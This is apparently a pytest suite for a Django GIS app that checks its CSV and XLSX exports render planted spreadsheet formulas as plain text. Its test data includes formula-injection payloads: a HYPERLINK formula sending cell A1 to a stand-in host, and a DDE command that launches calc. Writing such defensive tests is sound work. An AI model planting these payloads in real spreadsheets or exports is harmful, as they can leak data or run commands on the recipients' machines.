"""Every spreadsheet GeoCM writes keeps planted formulas as text (geo_cm.spreadsheets).

Formulas are planted through the API and through an import, then every CSV and XLSX
we write is read back (openpyxl, csv) and no cell may be a formula.
"""

import csv
import io
import json

import pytest
from django.test import Client
from openpyxl import load_workbook
from rest_framework.test import APIClient

from geo_cm.imports.services import import_file
from geo_cm.plans.models import Plan, ReportedValue, Target
from geo_cm.spreadsheets import FORMULA_LEADS, csv_value, xlsx_row
from tests import factories
from toilets.models import Toilet

pytestmark = pytest.mark.django_db

PLANTED = [
    '=HYPERLINK("http://x.example/?"&A1,"x")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
]


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula_in_csv(rows):
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_LEADS), f"formula-like CSV cell {cell!r}"


def assert_no_formula_in_xlsx(cells):
    for cell in cells:
        assert cell.data_type != "f", f"formula in {cell.coordinate}: {cell.value!r}"


@pytest.fixture
def planted(areas, gis_user):
    """Toilets named by formulas: two through the feature API, the rest by an import."""
    api = APIClient()
    api.force_authenticate(gis_user)
    for i, name in enumerate(PLANTED[:2]):
        feature = {
            "type": "Feature",
            "geometry": {"type": "Point", "coordinates": [118.62 + i / 100, 32.05]},
            "properties": {"code": f"GC-F{i}", "name": name, "category": "city"},
        }
        response = api.post(
            "/ogc/collections/toilets/items",
            json.dumps(feature),
            content_type="application/geo+json",
        )
        assert response.status_code == 201, response.content
    return api


def test_formulas_planted_by_api_and_import_stay_text_in_every_export(planted, tmp_path):
    source = tmp_path / "toilets.csv"
    with source.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["code", "name", "address", "category", "lng", "lat"])
        for i, name in enumerate(PLANTED[2:]):
            writer.writerow([f"GC-I{i}", name, PLANTED[0], "city", 118.63 + i / 100, 32.06])
    record = import_file(layer_slug="toilets", path=source).record
    assert record.status == "committed", record.report
    assert set(Toilet.objects.values_list("name", flat=True)) == set(PLANTED)

    anonymous = APIClient()
    for client in (planted, anonymous):
        rows = csv_cells(client.get("/api/export/toilets", {"format": "csv"}).content)
        assert_no_formula_in_csv(rows)
        names = {r[rows[0].index("name")] for r in rows[1:]}
        assert names == {"'" + p for p in PLANTED}
        # Coordinates are numbers, without an apostrophe.
        assert all(float(r[rows[0].index("lon")]) > 118 for r in rows[1:])

        response = client.get("/api/export/toilets", {"format": "xlsx"})
        cells = xlsx_cells(response.content)
        assert_no_formula_in_xlsx(cells)
        # The text is kept exactly, as a string cell.
        assert set(PLANTED) <= {c.value for c in cells if c.data_type == "s"}
        assert all(c.data_type == "n" for c in cells if isinstance(c.value, float))


def test_negative_numbers_stay_numbers(areas, gis_client):
    from geo_cm import services
    from parking.models import Berth

    facility = factories.facility("TC-N1")
    services.asset_create(
        model=Berth,
        values={"code": "BW-N1", "facility": facility, "geom": facility.geom, "level": -2},
    )
    rows = csv_cells(gis_client.get("/api/export/parking-berths", {"format": "csv"}).content)
    assert rows[1][rows[0].index("level")] == "-2"
    cells = xlsx_cells(gis_client.get("/api/export/parking-berths", {"format": "xlsx"}).content)
    [level] = [c for c in cells if c.value == -2]
    assert level.data_type == "n"


def test_the_import_row_report_keeps_formulas_as_text(areas, gis_user, tmp_path):
    source = tmp_path / "bad.csv"
    source.write_text(
        'code,name,category,lng,lat\nGC-B1,=HYPERLINK("http://x"&A1),nonsense,118.61,32.01\n',
        encoding="utf-8",
    )
    record = import_file(layer_slug="toilets", path=source).record
    assert record.status != "committed" and record.report
    web = Client()
    web.force_login(gis_user)
    rows = csv_cells(web.get(f"/imports/records/{record.pk}/report.csv").content)
    assert_no_formula_in_csv(rows)
    assert len(rows) > 1


def test_the_plan_workbook_keeps_formulas_as_text(areas, roles, gis_user):
    plan = Plan.objects.create(title=PLANTED[0], issuing_body=PLANTED[1], year=2023)
    target = Target.objects.create(
        plan=plan,
        code="R1",
        title_zh=PLANTED[3],
        title_en="x",
        unit="%",
        target_value=90,
        kind="reported",
    )
    ReportedValue.objects.create(
        target=target,
        measured_on="2023-03-01",
        value=50,
        scope=PLANTED[2],
        evidence=PLANTED[4],
        reported_by=gis_user,
    )
    web = Client()
    web.force_login(gis_user)
    response = web.get("/plans/2023/report.xlsx")
    assert response.status_code == 200, response.content[:300]
    cells = xlsx_cells(response.content)
    assert_no_formula_in_xlsx(cells)
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for planted_text in (PLANTED[3], PLANTED[2], PLANTED[4]):
        assert planted_text in texts
    assert any(t.startswith(PLANTED[0]) for t in texts)  # the sheet's title line


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_lead_is_neutralised_in_csv(lead):
    assert csv_value(lead + "1+1") == "'" + lead + "1+1"


def test_values_that_are_not_text_pass_unchanged():
    assert [csv_value(v) for v in (None, -1, 2.5, True, "公厕 = ok")] == [
        "",
        -1,
        "2.5",
        True,
        "公厕 = ok",
    ]


def test_characters_a_workbook_cannot_hold_are_dropped():
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet("t")
    [cell] = xlsx_row(sheet, ["=A1\x01\x02"])
    assert cell.value == "=A1" and cell.data_type == "s"
